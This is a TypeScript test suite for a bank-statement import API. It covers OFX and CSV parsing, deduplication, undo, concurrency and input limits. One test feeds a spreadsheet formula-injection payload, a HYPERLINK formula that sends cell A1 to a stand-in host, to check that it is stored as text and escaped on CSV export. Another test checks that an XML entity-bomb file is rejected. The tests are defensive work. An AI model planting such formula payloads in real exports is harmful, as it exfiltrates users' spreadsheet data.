import { Agent, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, createTestApp, registerCompany, type TestApp } from '../../../test/app.js';
import { bankFixture } from '../../../test/bank-fixtures.js';
import { bankAccount, manyPostings, multipartBody, ofxFile, postStatement } from '../../../test/bank-import.js';
import { cell } from '../../lib/csv.js';

/**
 * POST|GET /api/bank-statements, DELETE /api/bank-statements/:id (issue 21 §2 and §5; ADR 045;
 * docs/product-rules.md "Bank statements"), on every database of the suite.
 */
let t: TestApp;
let owner: Awaited<ReturnType<typeof registerCompany>>;
let other: Awaited<ReturnType<typeof registerCompany>>;
let tenantId: number;

const OCT = [
  { data: '2026-10-01', valor: 150_00, memo: 'PIX RECEBIDO MARIA' },
  { data: '2026-10-02', valor: -35_90, memo: 'TARIFA PACOTE' },
  { data: '2026-10-03', valor: -1200_00, memo: 'BOLETO ALUGUEL' },
];

const lines = (contaId: number) =>
  t.handle.db.selectFrom('bank_lines').selectAll().where('conta_id', '=', contaId).orderBy('id').execute();
const statements = () => t.handle.db.selectFrom('bank_statements').selectAll().execute();
const allLines = () => t.handle.db.selectFrom('bank_lines').select('id').execute();

async function account(props: Parameters<typeof bankAccount>[2] = {}) {
  return bankAccount(t.handle.db, tenantId, props);
}

beforeAll(async () => {
  t = await createTestApp();
  owner = await registerCompany(t.app, 'Padaria');
  other = await registerCompany(t.app, 'Vizinha');
  tenantId = owner.user.tenant_id;
});
afterAll(async () => {
  await t.close();
});

describe('preview and confirmation', () => {
  it('a preview reads every line as new, with the period and totals, and stores nothing', async () => {
    const conta = await account({ conta: '1001' });
    const res = await postStatement(t.app, owner.token, {
      file: ofxFile(OCT, { acctId: '1001', saldo: 5000_00 }),
      contaId: conta,
    });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({
      id: null,
      formato: 'ofx',
      conta_id: conta,
      data_inicio: '2026-10-01',
      data_fim: '2026-10-03',
      lidos: 3,
      novos: 3,
      duplicados: 0,
      rejeitados: [],
      creditos: 150,
      debitos: 1235.9,
      saldo_final: 5000,
    });
    expect(res.body.data.linhas).toEqual([
      { linha: expect.any(Number), data: '2026-10-01', descricao: 'PIX RECEBIDO MARIA', valor: 150, situacao: 'novo' },
      { linha: expect.any(Number), data: '2026-10-02', descricao: 'TARIFA PACOTE', valor: -35.9, situacao: 'novo' },
      { linha: expect.any(Number), data: '2026-10-03', descricao: 'BOLETO ALUGUEL', valor: -1200, situacao: 'novo' },
    ]);
    expect(await lines(conta)).toEqual([]);
    expect((await statements()).filter((s) => s.conta_id === conta)).toEqual([]);
  });

  it('confirmed: 201, the lines stored pending; the same file again: every line a duplicate, nothing stored', async () => {
    const conta = await account({ conta: '1002' });
    const file = ofxFile(OCT, { acctId: '1002', saldo: 5000_00 });
    const first = await postStatement(t.app, owner.token, { file, contaId: conta, confirmar: true });
    expect(first.status).toBe(201);
    expect(first.body.data).toMatchObject({ lidos: 3, novos: 3, duplicados: 0 });
    expect(first.body.data.id).toEqual(expect.any(Number));
    const stored = await lines(conta);
    expect(stored.map((l) => [l.data, Number(l.valor), l.descricao, l.situacao, l.ocorrencia])).toEqual([
      ['2026-10-01', 150_00, 'PIX RECEBIDO MARIA', 'pendente', 1],
      ['2026-10-02', -35_90, 'TARIFA PACOTE', 'pendente', 1],
      ['2026-10-03', -1200_00, 'BOLETO ALUGUEL', 'pendente', 1],
    ]);
    const batch = (await statements()).find((s) => s.id === first.body.data.id);
    expect(batch).toMatchObject({ nome_arquivo: 'extrato.ofx', formato: 'ofx', novos: 3, lidos: 3 });
    expect(Number(batch?.saldo_final)).toBe(5000_00);
    expect(batch?.hash).toMatch(/^[0-9a-f]{64}$/);

    for (const confirmar of [false, true]) {
      const again = await postStatement(t.app, owner.token, { file, contaId: conta, confirmar });
      expect(again.status).toBe(200);
      expect(again.body.data).toMatchObject({ id: null, lidos: 3, novos: 0, duplicados: 3 });
      expect(again.body.data.linhas.map((l: { situacao: string }) => l.situacao)).toEqual([
        'duplicado',
        'duplicado',
        'duplicado',
      ]);
    }
    expect(await lines(conta)).toHaveLength(3);
    expect((await statements()).filter((s) => s.conta_id === conta)).toHaveLength(1);

    const list = await call(t.app, 'GET', `/api/bank-statements?conta_id=${conta}`, { token: owner.token });
    expect(list.status).toBe(200);
    expect(list.body.data).toEqual([
      expect.objectContaining({
        id: first.body.data.id,
        conta_id: conta,
        conta_nome: 'Banco 1002',
        nome_arquivo: 'extrato.ofx',
        data_inicio: '2026-10-01',
        data_fim: '2026-10-03',
        novos: 3,
        creditos: 150,
        debitos: 1235.9,
        saldo_final: 5000,
        created_at: expect.any(String),
      }),
    ]);
  });

  it('an overlapping period adds only the lines not stored yet', async () => {
    const conta = await account({ conta: '1003' });
    const first = manyPostings(20);
    await postStatement(t.app, owner.token, { file: ofxFile(first), contaId: conta, confirmar: true });
    // The second export covers the last ten and ten more, with other FITIDs (a bank that changes them).
    const second = manyPostings(20, 10).map((p) => ({ ...p, fitid: `X${p.fitid}` }));
    const res = await postStatement(t.app, owner.token, { file: ofxFile(second), contaId: conta, confirmar: true });
    expect(res.status).toBe(201);
    expect(res.body.data).toMatchObject({ lidos: 20, novos: 10, duplicados: 10 });
    expect(await lines(conta)).toHaveLength(30);
  });

  it('two identical lines in one file are both kept; FITIDs 0, repeated or changed still dedupe', async () => {
    const conta = await account({ conta: '1004' });
    const same = { data: '2026-10-05', valor: 10_00, memo: 'PIX RECEBIDO JOAO', fitid: '0' };
    const file = ofxFile([same, same, { ...same, valor: 20_00 }]);
    const res = await postStatement(t.app, owner.token, { file, contaId: conta, confirmar: true });
    expect(res.body.data).toMatchObject({ lidos: 3, novos: 3 });
    expect((await lines(conta)).map((l) => [Number(l.valor), l.ocorrencia])).toEqual([
      [10_00, 1],
      [10_00, 2],
      [20_00, 1],
    ]);
    // The same postings exported again with fresh FITIDs and the description in other case and spacing.
    const reexport = ofxFile([
      { ...same, fitid: 'NOVO-1', memo: 'Pix  recebido   João' },
      { ...same, fitid: 'NOVO-2' },
      { ...same, valor: 20_00, fitid: 'NOVO-3' },
      { ...same, fitid: 'NOVO-4' },
    ]);
    const again = await postStatement(t.app, owner.token, { file: reexport, contaId: conta, confirmar: true });
    // The third R$ 10,00 of the day is new: the first export was taken before it.
    expect(again.body.data).toMatchObject({ lidos: 4, novos: 1, duplicados: 3 });
    expect(await lines(conta)).toHaveLength(4);
  });

  it('an OFX without conta_id goes to the account its BANKID/ACCTID name; none or two: a 400 asking for it', async () => {
    const conta = await account({ banco: '001', conta: '000123456' });
    const res = await postStatement(t.app, owner.token, {
      file: ofxFile(OCT, { bankId: '1', acctId: '123456' }),
      confirmar: true,
    });
    expect(res.status).toBe(201);
    expect(res.body.data.conta_id).toBe(conta);

    // Chosen for another account of the company: refused, naming the one the file is of.
    const caixa = await account({ nome: 'Gaveta', conta: '31313' });
    const wrong = await postStatement(t.app, owner.token, {
      file: ofxFile(OCT, { bankId: '1', acctId: '123456' }),
      contaId: caixa,
    });
    expect(wrong.status).toBe(400);
    expect(wrong.body.message).toBe(
      'O extrato é da conta Banco 000123456, não de Gaveta: escolha a conta certa (ou deixe que o OFX a indique)',
    );

    const none = await postStatement(t.app, owner.token, { file: ofxFile(OCT, { acctId: '999999' }) });
    expect(none.status).toBe(400);
    expect(none.body.message).toMatch(/escolha a conta/);
    await account({ nome: 'Outra', banco: '001', conta: '123456' });
    const two = await postStatement(t.app, owner.token, { file: ofxFile(OCT, { bankId: '1', acctId: '123456' }) });
    expect(two.status).toBe(400);
    expect(two.body.message).toMatch(/mais de uma conta/);
  });

  it('a CSV: the preset found by its header, the mapping saved on the account and used next time', async () => {
    const conta = await account({ nome: 'Nubank', banco: '260', conta: '7777' });
    const noAccount = await postStatement(t.app, owner.token, {
      file: bankFixture('nubank-conta.csv'),
      fileName: 'nubank.csv',
    });
    expect(noAccount.status).toBe(400);
    expect(noAccount.body.message).toMatch(/Escolha a conta/);

    const res = await postStatement(t.app, owner.token, {
      file: bankFixture('nubank-conta.csv'),
      fileName: 'nubank.csv',
      contaId: conta,
      mapeamento: { preset: 'nubank-conta' },
      confirmar: true,
    });
    expect(res.status).toBe(201);
    expect(res.body.data).toMatchObject({ formato: 'csv', preset: 'nubank-conta' });
    const saved = await t.handle.db
      .selectFrom('financial_accounts')
      .select('mapeamento_csv')
      .where('id', '=', conta)
      .executeTakeFirstOrThrow();
    expect(JSON.parse(saved.mapeamento_csv ?? 'null')).toEqual({ preset: 'nubank-conta' });
    const again = await postStatement(t.app, owner.token, {
      file: bankFixture('nubank-conta.csv'),
      fileName: 'nubank.csv',
      contaId: conta,
    });
    expect(again.status).toBe(200);
    expect(again.body.data.novos).toBe(0);

    const badMapping = await postStatement(t.app, owner.token, {
      file: bankFixture('nubank-conta.csv'),
      contaId: conta,
      mapeamento: { preset: 'caixa' },
    });
    expect(badMapping.status).toBe(400);
    expect(badMapping.body.message).toMatch(/Modelo de CSV inválido/);
  });

  it('a description such as =HYPERLINK(…) is stored and answered as the text it is; a CSV cell of it is safe', async () => {
    const conta = await account({ conta: '1005' });
    const memo = '=HYPERLINK("http://x.example/?a="&A1,"clique")';
    const res = await postStatement(t.app, owner.token, {
      file: ofxFile([{ data: '2026-10-07', valor: -1_00, memo }]),
      contaId: conta,
      confirmar: true,
    });
    expect(res.status).toBe(201);
    expect(res.body.data.linhas[0].descricao).toBe(memo);
    expect((await lines(conta))[0]?.descricao).toBe(memo);
    expect(cell(memo).startsWith('"\'=') || cell(memo).startsWith("'=")).toBe(true);
  });
});

describe('undo', () => {
  it('removes the lines and their matches, keeps what was recorded; importing again works as the first time', async () => {
    const conta = await account({ conta: '2001' });
    const file = ofxFile(OCT);
    const first = await postStatement(t.app, owner.token, { file, contaId: conta, confirmar: true });
    const payment = await call(t.app, 'POST', '/api/payments', {
      token: owner.token,
      body: { descricao: 'Venda', valor: 150, data_pagamento: '2026-10-01', status: 'confirmado' },
    });
    expect(payment.status).toBe(201);
    const line = (await lines(conta))[0];
    await t.handle.db
      .insertInto('bank_matches')
      .values({
        tenant_id: tenantId,
        linha_id: line?.id as number,
        payment_id: payment.body.data.id,
        created_at: '2026-11-21T12:00:00.000Z',
      })
      .execute();

    const strange = await call(t.app, 'DELETE', `/api/bank-statements/${first.body.data.id}`, { token: other.token });
    expect(strange.status).toBe(404);
    const undo = await call(t.app, 'DELETE', `/api/bank-statements/${first.body.data.id}`, { token: owner.token });
    expect(undo.status).toBe(204);
    expect(await lines(conta)).toEqual([]);
    expect(
      await t.handle.db.selectFrom('bank_matches').select('id').where('tenant_id', '=', tenantId).execute(),
    ).toEqual([]);
    const kept = await call(t.app, 'GET', `/api/payments/${payment.body.data.id}`, { token: owner.token });
    expect(kept.status).toBe(200);
    const log = await t.handle.db
      .selectFrom('activity_log')
      .select(['action', 'label'])
      .where('tenant_id', '=', tenantId)
      .where('entity_type', '=', 'bank_statement')
      .where('entity_id', '=', first.body.data.id)
      .execute();
    expect(log.map((l) => l.action).sort()).toEqual(['CREATE', 'DELETE']);
    expect(log[0]?.label).toBe("Extrato 'extrato.ofx' de 01/10/2026 a 03/10/2026");

    const again = await postStatement(t.app, owner.token, { file, contaId: conta, confirmar: true });
    expect(again.status).toBe(201);
    expect(again.body.data).toMatchObject({ novos: 3, duplicados: 0 });
  });

  it('is refused, naming the month, when a line is in a closed month', async () => {
    const company = await registerCompany(t.app, 'Fechada');
    const conta = await bankAccount(t.handle.db, company.user.tenant_id, { conta: '3001' });
    const res = await postStatement(t.app, company.token, { file: ofxFile(OCT), contaId: conta, confirmar: true });
    const close = await call(t.app, 'POST', '/api/closings/2026-10/close', { token: company.token });
    expect(close.status).toBe(200);
    const undo = await call(t.app, 'DELETE', `/api/bank-statements/${res.body.data.id}`, { token: company.token });
    expect(undo.status).toBe(409);
    expect(undo.body).toEqual({
      error: 'MONTH_CLOSED',
      message:
        'Mês fechado (outubro/2026): reabra o fechamento para desfazer esta importação, que tem lançamentos nele',
    });
    expect(await lines(conta)).toHaveLength(3);
  });
});

describe('concurrency', () => {
  it('two imports of one file at once store it once', async () => {
    const conta = await account({ conta: '4001' });
    const file = ofxFile(manyPostings(300));
    const second = await t.secondInstance();
    const [a, b] = await Promise.all([
      postStatement(t.app, owner.token, { file, contaId: conta, confirmar: true }),
      postStatement(second, owner.token, { file, contaId: conta, confirmar: true }),
    ]);
    expect([a.status, b.status].sort()).toEqual([200, 201]);
    expect(a.body.data.novos + b.body.data.novos).toBe(300);
    expect(await lines(conta)).toHaveLength(300);
    expect((await statements()).filter((s) => s.conta_id === conta)).toHaveLength(1);
  });
});

describe('concurrency of overlapping files', () => {
  it('two overlapping imports at once store each line once, without a deadlock', async () => {
    const conta = await account({ conta: '4002' });
    const a = ofxFile(manyPostings(400));
    // The same postings and 200 more, in the opposite order.
    const b = ofxFile(manyPostings(600).reverse());
    const second = await t.secondInstance();
    const [ra, rb] = await Promise.all([
      postStatement(t.app, owner.token, { file: a, contaId: conta, confirmar: true }),
      postStatement(second, owner.token, { file: b, contaId: conta, confirmar: true }),
    ]);
    expect([ra.status, rb.status]).toEqual([expect.any(Number), expect.any(Number)]);
    expect(ra.status).toBeLessThan(300);
    expect(rb.status).toBeLessThan(300);
    expect(ra.body.data.novos + rb.body.data.novos).toBe(600);
    expect(await lines(conta)).toHaveLength(600);
  });
});

describe('bad input: a pt-BR 400 and nothing stored', () => {
  const cases: Array<[string, () => Uint8Array, string, RegExp]> = [
    ['an empty file', () => new Uint8Array(), 'vazio.ofx', /vazio/i],
    ['a PNG renamed .ofx', () => bankFixture('png-renamed.ofx'), 'foto.ofx', /imagem|bin[aá]rio|não é/i],
    ['a truncated OFX', () => bankFixture('truncated.ofx'), 'cortado.ofx', /incompleto|termina/i],
    ['an OFX 2 with entities (XML bomb)', () => bankFixture('ofx2-entity-bomb.ofx'), 'bomba.ofx', /DTD|entidade/i],
  ];
  for (const [what, file, name, message] of cases) {
    it(what, async () => {
      const conta = await account({ conta: `5${name.length}${Math.floor(Math.random() * 1e6)}` });
      const before = (await allLines()).length;
      const res = await postStatement(t.app, owner.token, {
        file: file(),
        fileName: name,
        contaId: conta,
        confirmar: true,
      });
      expect(res.status).toBe(400);
      expect(res.body.error).toBe('VALIDATION');
      expect(res.body.message).toMatch(message);
      expect((await allLines()).length).toBe(before);
      expect((await statements()).filter((s) => s.conta_id === conta)).toEqual([]);
    });
  }

  it('more than 200,000 lines', async () => {
    const conta = await account({ conta: '5002' });
    const rows = ['Data,Valor,Identificador,Descrição'];
    for (let i = 0; i < 200_001; i++) rows.push(`01/10/2026,1.00,${i},X`);
    const res = await postStatement(t.app, owner.token, {
      file: Buffer.from(rows.join('\n')),
      fileName: 'grande.csv',
      contaId: conta,
      mapeamento: { preset: 'nubank-conta' },
      confirmar: true,
    });
    expect(res.status).toBe(400);
    expect(res.body.message).toMatch(/mais de 200\.000 lançamentos/);
    expect(await lines(conta)).toEqual([]);
  });

  it("another company's conta_id is a 404; a malformed one a 400", async () => {
    const theirs = await bankAccount(t.handle.db, other.user.tenant_id, { conta: '6001' });
    const res = await postStatement(t.app, owner.token, { file: ofxFile(OCT), contaId: theirs, confirmar: true });
    expect(res.status).toBe(404);
    expect(res.body.message).toBe('Conta não encontrada');
    const list = await call(t.app, 'GET', `/api/bank-statements?conta_id=${theirs}`, { token: owner.token });
    expect(list.status).toBe(404);
    const bad = await postStatement(t.app, owner.token, { file: ofxFile(OCT), contaId: '1e3' });
    expect(bad.status).toBe(400);
    expect(await lines(theirs)).toEqual([]);
  });

  it('no file, an unknown field, a JSON body, a bad confirmar', async () => {
    const conta = await account({ conta: '5003' });
    const send = async (parts: Parameters<typeof multipartBody>[0]) => {
      const { payload, contentType } = multipartBody(parts);
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/bank-statements',
        headers: { authorization: `Bearer ${owner.token}`, 'content-type': contentType },
        payload,
      });
      return { status: res.statusCode, body: res.json() };
    };
    expect(await send([{ name: 'conta_id', value: String(conta) }])).toMatchObject({
      status: 400,
      body: { message: 'Envie o arquivo do extrato no campo "arquivo"' },
    });
    expect((await send([{ name: 'x', value: '1' }])).body.message).toBe('Campo não permitido: x');
    expect(
      (
        await send([
          { name: 'confirmar', value: 'sim' },
          { name: 'arquivo', value: ofxFile(OCT), fileName: 'a.ofx' },
        ])
      ).body.message,
    ).toBe('confirmar deve ser true ou false');
    const json = await call(t.app, 'POST', '/api/bank-statements', { token: owner.token, body: { arquivo: 'x' } });
    expect(json.status).toBe(415);
    expect(json.body.message).toMatch(/multipart\/form-data/);
    expect(await lines(conta)).toEqual([]);
  });
});

describe('limits on the wire', () => {
  it('a 20 MB upload is a 413 in pt-BR, and the next request on the same connection is answered at once', async () => {
    const big = await createTestApp({ BANK_UPLOAD_MAX_MB: '10' });
    try {
      const company = await registerCompany(big.app, 'Grande');
      await big.app.listen({ port: 0, host: '127.0.0.1' });
      const { port } = big.app.server.address() as AddressInfo;
      const agent = new Agent({ keepAlive: true, maxSockets: 1 });
      const { payload, contentType } = multipartBody([
        { name: 'arquivo', value: Buffer.alloc(20 * 1024 * 1024, 0x41), fileName: 'grande.ofx' },
      ]);
      const send = (path: string, method: string, body?: Buffer, type?: string) =>
        new Promise<{ status: number; body: string; reused: boolean }>((resolve, reject) => {
          const req = httpRequest(
            {
              agent,
              host: '127.0.0.1',
              port,
              path,
              method,
              headers: {
                authorization: `Bearer ${company.token}`,
                ...(body ? { 'content-type': type, 'content-length': body.length } : {}),
              },
            },
            (res) => {
              let text = '';
              res.setEncoding('utf8');
              res.on('data', (c) => {
                text += c;
              });
              res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text, reused: req.reusedSocket }));
            },
          );
          req.on('error', reject);
          req.end(body);
        });
      const refused = await send('/api/bank-statements', 'POST', payload, contentType);
      expect(refused.status).toBe(413);
      expect(JSON.parse(refused.body)).toEqual({
        error: 'PAYLOAD_TOO_LARGE',
        message: 'O arquivo passa do limite de 10 MB: divida o extrato em períodos menores',
      });
      const started = Date.now();
      const next = await send('/api/bank-statements', 'GET');
      expect(next.status).toBe(200);
      expect(next.reused).toBe(true);
      expect(Date.now() - started).toBeLessThan(2000);
      agent.destroy();
      expect(await big.handle.db.selectFrom('bank_statements').select('id').execute()).toEqual([]);
    } finally {
      await big.close();
    }
  }, 60_000);
});
